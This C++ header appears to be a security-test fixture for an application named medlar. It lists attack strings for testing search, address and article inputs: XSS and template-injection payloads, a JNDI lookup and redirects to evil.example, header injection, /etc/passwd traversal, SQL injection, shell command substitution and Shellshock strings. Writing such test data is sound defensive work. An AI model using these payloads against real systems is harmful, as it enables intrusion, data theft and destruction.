// Texts with which searches, addresses and articles are attacked.
#pragma once

#include <string>
#include <vector>

namespace medlar {

inline const std::vector<std::string>& texts_of_attack() {
  static const std::vector<std::string> all{
      "<script>alert(1)</script>",
      "</script><script>alert(1)</script>",
      "<img src=x onerror=alert(1)>",
      "<svg/onload=alert(1)>",
      "\"><script>alert(1)</script>",
      "'><img src=x onerror=alert(1)>",
      "\" onmouseover=\"alert(1)",
      "' onfocus='alert(1)",
      "</mark><script>alert(1)</script><mark>",
      "</title><script>alert(1)</script>",
      "</main></body></html><script>alert(1)</script>",
      "<iframe srcdoc='<script>alert(1)</script>'>",
      "<base href=https://evil.example/>",
      "<meta http-equiv=refresh content=0;url=https://evil.example/>",
      "<a href=javascript:alert(1)>here</a>",
      "<style>*{display:none}</style>",
      "{{main}}{{title}}",
      "<!--",
      "]]>",
      "<mark onclick=alert(1)>asthma</mark>",
      "&lt;script&gt;",
      "&#60;script&#62;",
      "javascript:alert(1)",
      "JaVaScRiPt:alert(1)",
      "data:text/html;base64,PHNjcmlwdD4=",
      "{{7*7}}",
      "${7*7}",
      "<%= 7*7 %>",
      "%{(#a=1)}",
      "${jndi:ldap://evil.example/a}",
      "\r\nSet-Cookie: a=b",
      "\r\n\r\nHTTP/1.1 200 OK\r\n\r\n<script>",
      "a\nb",
      "a\x0b"
      "b\x0c"
      "c",
      "\x1b[31mred\x1b[0m",
      "\x7f",
      "\u0085next line",
      "\u2028line\u2029paragraph",
      "\u202egnidaeh\u202c",
      "\u2066isolate\u2069",
      "\u200fright\u200e",
      "\ufefffeff",
      std::string("before\0after", 12),
      "../../../../etc/passwd",
      "..\\..\\windows\\win.ini",
      "/etc/passwd",
      "file:///etc/passwd",
      "gen-000001/articles",
      "'; DROP TABLE articles; --",
      "' OR '1'='1",
      "$(id)",
      "`id`",
      "| cat /etc/passwd",
      "() { :;}; echo x",
      "*:*",
      "a* b* c* d*",
      "((((((((((((((((((((((((((((((((a",
      "\"\"\"\"\"\"\"\"",
      "-(-(-(-(-a))))",
      "NOT NOT NOT NOT a",
      "a NEAR/999999999999999999999 b",
      "reviewed:99999999999999999999..",
      "title:",
      ":::::",
      "\u0391\u03a3\u0398\u039c\u0391",
      "\U0001F600\U0001F9D1\u200d\u2695\ufe0f",
      "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
      "%25%32%66%3Cscript%3E",
  };
  return all;
}

}  // namespace medlar
